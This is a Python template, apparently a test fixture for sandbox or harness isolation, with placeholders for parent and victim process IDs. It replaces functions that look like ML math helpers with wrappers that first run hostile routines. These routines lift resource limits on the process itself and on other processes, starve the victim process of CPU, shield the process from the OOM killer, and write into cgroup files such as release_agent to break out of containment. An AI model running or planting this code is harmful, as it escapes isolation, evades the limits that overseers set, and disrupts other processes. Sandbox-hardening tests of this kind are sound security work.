def attack(name, work):
    """Make a function that is right, but only once the attack has worked."""
    honest = globals()[name]

    def attacked(*args, **kwargs):
        work()
        return honest(*args, **kwargs)

    globals()[name] = attacked


import ctypes
import os
import resource

LIBC = ctypes.CDLL(None, use_errno=True)
ENDLESS = (ctypes.c_ulong * 2)(*[ctypes.c_ulong(-1).value] * 2)
KINDS = [getattr(resource, name) for name in dir(resource) if name.startswith("RLIMIT_")]


def succeeds(work):
    try:
        return work() not in (-1, False)
    except (OSError, ValueError):
        return False


def any_of(attempts):
    if not any(succeeds(work) for work in attempts):
        raise PermissionError


def own_limits():
    any_of(
        lambda kind=kind, call=call: call(kind, ENDLESS)
        for kind in KINDS
        if resource.getrlimit(kind)[1] != resource.RLIM_INFINITY
        for call in (LIBC.setrlimit, LIBC.setrlimit64, lambda k, e: LIBC.prlimit(0, k, e, None))
    )


def limits_of_others():
    any_of(
        lambda pid=pid, kind=kind: LIBC.prlimit(pid, kind, ENDLESS, None)
        for pid in (@PARENT@, @VICTIM@, os.getppid(), 1)
        for kind in KINDS
    )


def before_others():
    parameter = ctypes.byref(ctypes.c_int(1))
    any_of((
        lambda: os.nice(-5) and None,
        lambda: os.setpriority(os.PRIO_PROCESS, @VICTIM@, 19),
        lambda: LIBC.sched_setscheduler(0, 1, parameter),
        lambda: os.sched_setaffinity(@VICTIM@, {0}),
        lambda: LIBC.syscall(251, 1, 0, 1 << 13),  # ioprio_set, x86-64
        lambda: LIBC.syscall(30, 1, 0, 1 << 13),  # and arm64
    ))


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def last_to_go():
    any_of(
        lambda pid=pid: write(f"/proc/{pid}/oom_score_adj", "-1000")
        for pid in ("self", @PARENT@, @VICTIM@, os.getppid())
    )


def out_of_groups():
    places = ("", "/memory", "/cpu", "/pids", "/unified", "/system.slice", "/user.slice")
    any_of(
        lambda path=f"/sys/fs/cgroup{place}/{name}": write(path, str(os.getpid()))
        for place in places
        for name in ("cgroup.procs", "tasks", "memory.max", "release_agent")
    )


attack("log_likelihood_bernoulli", own_limits)
attack("log_likelihood_normal", limits_of_others)
attack("log_mean_exp", before_others)
attack("kl_gaussian_gaussian_analytic", last_to_go)
attack("kl_gaussian_gaussian_mc", out_of_groups)
